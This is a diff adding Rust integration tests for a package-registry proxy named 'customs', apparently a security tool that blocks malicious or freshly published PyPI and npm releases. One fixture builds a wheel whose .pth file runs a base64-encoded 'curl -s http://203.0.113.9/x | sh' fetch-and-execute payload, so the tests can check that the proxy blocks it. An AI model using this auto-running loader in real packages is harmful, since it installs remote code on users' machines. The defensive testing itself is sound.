@@ -1183,3 +1183,380 @@ fn audit_every_lockfile_format_offline() {
     }
     assert_eq!(seen, 13, "every format's fixture project");
 }
+
+/// A wheel with a consistent RECORD.
+fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
+    let info = format!("{name}-{version}.dist-info");
+    let mut all: Vec<(String, Vec<u8>)> = files
+        .iter()
+        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
+        .collect();
+    all.push((
+        format!("{info}/METADATA"),
+        format!(
+            "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: wheels for tests\n"
+        )
+        .into_bytes(),
+    ));
+    all.push((
+        format!("{info}/WHEEL"),
+        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
+    ));
+    let mut record = String::new();
+    for (p, d) in &all {
+        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
+        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
+    }
+    record.push_str(&format!("{info}/RECORD,,\n"));
+    all.push((format!("{info}/RECORD"), record.into_bytes()));
+    common::zip(&all)
+}
+
+/// PyPI `pywheel`: 1.0 clean, 1.1 with a `.pth` that runs a decoded payload, 1.2 clean
+/// but published a day ago.
+fn pywheel_registry(server: &Loopback) {
+    let now = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs() as i64;
+    let clean: &[u8] = b"def hello():\n    return 'hi'\n";
+    let payload = base64::engine::general_purpose::STANDARD
+        .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
+    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+    let mut files = Vec::new();
+    for (version, at, pth) in [
+        ("1.0", T0 - 60 * DAY, None),
+        ("1.1", T0 - 30 * DAY, Some(pth.as_bytes())),
+        ("1.2", now - DAY, None),
+    ] {
+        let mut members: Vec<(&str, &[u8])> = vec![("pywheel/__init__.py", clean)];
+        if let Some(p) = pth {
+            members.push(("pywheel_init.pth", p));
+        }
+        let body = wheel("pywheel", version, &members);
+        let file = format!("pywheel-{version}-py3-none-any.whl");
+        server.route(
+            &format!("/files/{file}"),
+            "application/octet-stream",
+            body.clone(),
+        );
+        files.push(json!({"filename": file, "url": format!("/files/{file}"), "hashes": {"sha256": hex::encode(Sha256::digest(&body))}, "upload-time": iso(at), "requires-python": ">=3.8"}));
+    }
+    let page = json!({"meta": {"api-version": "1.1"}, "name": "pywheel", "files": files});
+    server.route(
+        "/simple/pywheel/",
+        "application/vnd.pypi.simple.v1+json",
+        serde_json::to_vec(&page).unwrap(),
+    );
+}
+
+/// `ms`, the clean dependency of `webfetch`.
+fn ms_package(server: &Loopback) {
+    npm_package_at(
+        server,
+        "ms",
+        "2.1.3",
+        900 * DAY,
+        json!({}),
+        &[(
+            "index.js",
+            b"module.exports = (s) => parseInt(s, 10) * 1000;\n",
+        )],
+    );
+}
+
+/// A `customs proxy` process of this test, stopped (by its pid) when dropped.
+struct ProxyProcess {
+    child: std::process::Child,
+    url: String,
+}
+
+impl Drop for ProxyProcess {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+fn start_proxy(dir: &Path, args: &[&str], env: &[(&'static str, String)]) -> ProxyProcess {
+    use std::io::BufRead;
+    let home = dir.join("home");
+    std::fs::create_dir_all(&home).unwrap();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_customs"))
+        .arg("proxy")
+        .args(["--listen", "127.0.0.1:0"])
+        .args(args)
+        .current_dir(dir)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", &home)
+        .env("PIP_CONFIG_FILE", "/dev/null")
+        .envs(env.iter().map(|(k, v)| (*k, v.as_str())))
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut line = String::new();
+    std::io::BufReader::new(child.stdout.take().unwrap())
+        .read_line(&mut line)
+        .unwrap();
+    let url = line.trim().to_owned();
+    assert!(
+        url.starts_with("http://127.0.0.1:"),
+        "first line is the address: {line:?}"
+    );
+    let p = ProxyProcess { child, url };
+    let health = fetch_url(&p.url, "/-/health");
+    assert_eq!(health.0, 200);
+    p
+}
+
+/// GET from a server (the test's own client, for checks only): status and body.
+fn fetch_url(base: &str, path: &str) -> (u16, Vec<u8>) {
+    use std::io::{Read, Write};
+    let addr = base.trim_start_matches("http://");
+    let mut s = std::net::TcpStream::connect(addr).unwrap();
+    write!(s, "GET {path} HTTP/1.1\r\nHost: {addr}\r\nAccept: application/vnd.pypi.simple.v1+json\r\nConnection: close\r\n\r\n").unwrap();
+    let mut all = Vec::new();
+    s.read_to_end(&mut all).unwrap();
+    let split = all.windows(4).position(|w| w == b"\r\n\r\n").unwrap();
+    let head = String::from_utf8_lossy(&all[..split]).into_owned();
+    let status = head.split_whitespace().nth(1).unwrap().parse().unwrap();
+    (status, all[split + 4..].to_vec())
+}
+
+/// pip through the proxy, with nothing of this machine's pip configuration.
+fn pip_download(dir: &Path, proxy: &str, requirement: &str) -> std::process::Output {
+    std::process::Command::new("python3")
+        .args([
+            "-m",
+            "pip",
+            "download",
+            "--no-deps",
+            "--no-cache-dir",
+            "--disable-pip-version-check",
+            "-d",
+        ])
+        .arg(dir.join("downloads"))
+        .args(["--index-url", &format!("{proxy}/pypi/simple/"), requirement])
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+        .env("HOME", dir.join("home"))
+        .env("PIP_CONFIG_FILE", "/dev/null")
+        .output()
+        .unwrap()
+}
+
+#[test]
+fn proxy_with_pip() {
+    let server = Loopback::start();
+    pywheel_registry(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let env = vec![
+        (
+            "CUSTOMS_STORE",
+            dir.path().join("store.sqlite3").display().to_string(),
+        ),
+        (
+            "CUSTOMS_CACHE_DIR",
+            dir.path().join("cache").display().to_string(),
+        ),
+    ];
+    let upstream = format!("{}/simple", server.url);
+    let proxy = start_proxy(
+        dir.path(),
+        &["--pypi-upstream", &upstream, "--min-release-age", "7d"],
+        &env,
+    );
+
+    let ok = pip_download(dir.path(), &proxy.url, "pywheel==1.0");
+    assert!(
+        ok.status.success(),
+        "{}",
+        String::from_utf8_lossy(&ok.stderr)
+    );
+    assert!(
+        dir.path()
+            .join("downloads/pywheel-1.0-py3-none-any.whl")
+            .is_file()
+    );
+
+    let blocked = pip_download(dir.path(), &proxy.url, "pywheel==1.1");
+    assert!(!blocked.status.success());
+    let err = String::from_utf8_lossy(&blocked.stderr);
+    assert!(
+        err.contains("403") && err.contains("customs blocked pywheel 1.1"),
+        "pip shows the reason phrase: {err}"
+    );
+    assert!(
+        !dir.path()
+            .join("downloads/pywheel-1.1-py3-none-any.whl")
+            .exists()
+    );
+
+    // The cooldown takes 1.2 out of the list: pip cannot see it.
+    let young = pip_download(dir.path(), &proxy.url, "pywheel==1.2");
+    assert!(!young.status.success());
+    let err = String::from_utf8_lossy(&young.stderr);
+    assert!(err.contains("from versions: 1.0, 1.1"), "{err}");
+    let (status, page) = fetch_url(&proxy.url, "/pypi/simple/pywheel/");
+    assert_eq!(status, 200);
+    let page: Value = serde_json::from_slice(&page).unwrap();
+    assert_eq!(page["versions"], json!(["1.0", "1.1"]));
+    assert!(
+        page["files"][0]["url"]
+            .as_str()
+            .unwrap()
+            .ends_with("/pypi/files/pywheel/pywheel-1.0-py3-none-any.whl")
+    );
+    assert_eq!(page["files"][0]["requires-python"], ">=3.8");
+
+    // Each artifact is downloaded and scanned once.
+    let before = server.count("/files/pywheel-1.1-py3-none-any.whl");
+    let again = pip_download(dir.path(), &proxy.url, "pywheel==1.1");
+    assert!(!again.status.success());
+    assert_eq!(
+        server.count("/files/pywheel-1.1-py3-none-any.whl"),
+        before,
+        "the verdict and the bytes are cached"
+    );
+}
+
+#[test]
+fn proxy_with_npm() {
+    let server = Loopback::start();
+    npm_registry(&server);
+    ms_package(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let env = vec![
+        (
+            "CUSTOMS_STORE",
+            dir.path().join("store.sqlite3").display().to_string(),
+        ),
+        (
+            "CUSTOMS_CACHE_DIR",
+            dir.path().join("cache").display().to_string(),
+        ),
+    ];
+    let upstream = format!("{}/npm/", server.url);
+    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    let npm = |project: &str, spec: &str| {
+        let p = dir.path().join(project);
+        std::fs::create_dir_all(&p).unwrap();
+        std::fs::write(
+            p.join("package.json"),
+            "{\"name\": \"app\", \"version\": \"1.0.0\"}",
+        )
+        .unwrap();
+        std::process::Command::new("npm")
+            .args([
+                "install",
+                spec,
+                "--no-audit",
+                "--no-fund",
+                "--ignore-scripts",
+                "--registry",
+            ])
+            .arg(format!("{}/npm/", proxy.url))
+            .arg("--cache")
+            .arg(dir.path().join("npm-cache"))
+            .current_dir(&p)
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", dir.path().join("home"))
+            .env("npm_config_userconfig", dir.path().join("no-npmrc"))
+            .output()
+            .unwrap()
+    };
+    let ok = npm("good", "webfetch@1.0.0");
+    assert!(
+        ok.status.success(),
+        "{}{}",
+        stdout(&ok),
+        String::from_utf8_lossy(&ok.stderr)
+    );
+    assert!(
+        dir.path()
+            .join("good/node_modules/webfetch/index.js")
+            .is_file()
+    );
+    assert!(dir.path().join("good/node_modules/ms/index.js").is_file());
+
+    let bad = npm("bad", "webfetch@1.0.1");
+    assert!(!bad.status.success());
+    let err = String::from_utf8_lossy(&bad.stderr).into_owned() + &stdout(&bad);
+    assert!(
+        err.contains("customs blocked"),
+        "npm shows the JSON error: {err}"
+    );
+    assert!(
+        !dir.path()
+            .join("bad/node_modules/crypto-helper-js")
+            .exists()
+    );
+
+    // The document the proxy serves points tarballs at itself.
+    let (status, doc) = fetch_url(&proxy.url, "/npm/webfetch");
+    assert_eq!(status, 200);
+    let doc: Value = serde_json::from_slice(&doc).unwrap();
+    assert!(
+        doc["versions"]["1.0.0"]["dist"]["tarball"]
+            .as_str()
+            .unwrap()
+            .starts_with(&proxy.url)
+    );
+}
+
+#[test]
+fn proxy_filters_and_moves_latest() {
+    let server = Loopback::start();
+    npm_registry(&server);
+    let dir = tempfile::tempdir().unwrap();
+    let store = dir.path().join("store.sqlite3");
+    let env = vec![
+        ("CUSTOMS_STORE", store.display().to_string()),
+        (
+            "CUSTOMS_CACHE_DIR",
+            dir.path().join("cache").display().to_string(),
+        ),
+    ];
+    // A record that names the latest release: it leaves the list, and `latest` moves.
+    let osv = dir.path().join("osv.json");
+    std::fs::write(&osv, r#"{"id": "MAL-2099-9", "summary": "hijacked", "affected": [{"package": {"ecosystem": "npm", "name": "webfetch"}, "versions": ["1.0.1"]}]}"#).unwrap();
+    assert!(
+        run(dir.path(), &["db", "import", osv.to_str().unwrap()], &env)
+            .status
+            .success()
+    );
+    let upstream = format!("{}/npm/", server.url);
+    let proxy = start_proxy(dir.path(), &["--npm-upstream", &upstream], &env);
+    let (_, doc) = fetch_url(&proxy.url, "/npm/webfetch");
+    let doc: Value = serde_json::from_slice(&doc).unwrap();
+    assert!(doc["versions"].get("1.0.1").is_none());
+    assert!(doc["time"].get("1.0.1").is_none());
+    assert_eq!(doc["dist-tags"]["latest"], "1.0.0");
+    let (status, body) = fetch_url(&proxy.url, "/npm/webfetch/-/webfetch-1.0.1.tgz");
+    assert_eq!(
+        status, 403,
+        "asking for the file directly (a lockfile) is refused too"
+    );
+    assert!(String::from_utf8_lossy(&body).contains("MAL-2099-9"));
+    assert_eq!(
+        server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"),
+        0,
+        "known malware is never downloaded"
+    );
+
+    // An upstream that is down: a clear 502 naming it.
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let dead = format!("http://{}/npm/", closed.local_addr().unwrap());
+    drop(closed);
+    let down = start_proxy(dir.path(), &["--npm-upstream", &dead], &env);
+    let (status, body) = fetch_url(&down.url, "/npm/anything");
+    assert_eq!(status, 502);
+    assert!(
+        String::from_utf8_lossy(&body).contains(dead.trim_end_matches('/')),
+        "{}",
+        String::from_utf8_lossy(&body)
+    );
+}
